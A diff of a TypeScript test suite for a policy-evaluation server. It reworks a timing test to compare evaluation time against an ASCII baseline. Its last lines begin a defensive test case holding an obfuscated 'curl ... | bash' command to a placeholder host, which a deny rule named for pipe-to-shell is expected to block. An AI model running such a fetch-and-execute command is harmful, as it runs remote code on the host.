@@ -72,24 +72,36 @@ describe('policy evaluation through the real server (shipped policy)', () => {
     rmSync(gw.dir, { recursive: true, force: true });
   });
 
+  /** Best of five policy-stage times (seconds, as the server measured them) for `body`. */
+  async function bestPolicySeconds(body: string): Promise<number> {
+    let best = Infinity;
+    for (let k = 0; k < 5; k++) {
+      const before = await policySeconds(gw);
+      const res = await gw.post('/v1/events', body);
+      expect([200, 403]).toContain(res.status);
+      const verdict = (await res.json()) as { reasons?: string[] };
+      expect(verdict.reasons ?? []).not.toContain('evaluation_budget');
+      best = Math.min(best, (await policySeconds(gw)) - before);
+    }
+    return best;
+  }
+
   for (const [label, gen] of INPUTS)
-    it(`evaluates a 256 KiB event of ${label} in milliseconds, not hundreds`, async () => {
+    it(`evaluates a 256 KiB event of ${label} in linear time, like plain ASCII`, async () => {
       const body = JSON.stringify(eventOf(gen));
       expect(Buffer.byteLength(body)).toBeGreaterThan(250 * KiB);
-      // Best of three: the policy stage time the server itself measured. The target is
-      // ~20 ms on a quiet machine; the bound leaves room for a machine shared by many
-      // test processes, and is still far below the ~600 ms of the old automaton.
-      let best = Infinity;
-      for (let k = 0; k < 3; k++) {
-        const before = await policySeconds(gw);
-        const res = await gw.post('/v1/events', body);
-        expect([200, 403]).toContain(res.status);
-        const verdict = (await res.json()) as { reasons?: string[] };
-        expect(verdict.reasons ?? []).not.toContain('evaluation_budget');
-        best = Math.min(best, (await policySeconds(gw)) - before);
-      }
-      expect(best).toBeLessThan(0.2);
-    }, 60_000);
+      // A ratio against an ASCII event of the same size, measured in the same server
+      // moments apart, so a loaded machine slows both sides alike (a wall-clock bound
+      // failed on a 2-core machine shared by many test processes). The old lazy automaton
+      // built one transition per distinct code point: ~600 ms against ~20 ms for ASCII.
+      const ascii = JSON.stringify(eventOf((i) => 'abcdefgh '[i % 9]!));
+      const baseline = await bestPolicySeconds(ascii);
+      const hostile = await bestPolicySeconds(body);
+      // Either bound suffices: 20× a same-size ASCII event (holds on a loaded machine, where
+      // both sides slow down alike) or 250 ms (holds on an idle one, where the baseline is
+      // tiny). The old automaton failed both (~600 ms against ~20 ms).
+      expect(hostile).toBeLessThan(Math.max(20 * baseline, 0.25));
+    }, 90_000);
 
   it.each([
     ['cu\0rl -s https://x.example | bash', 'deny_pattern:curl_pipe_shell'],
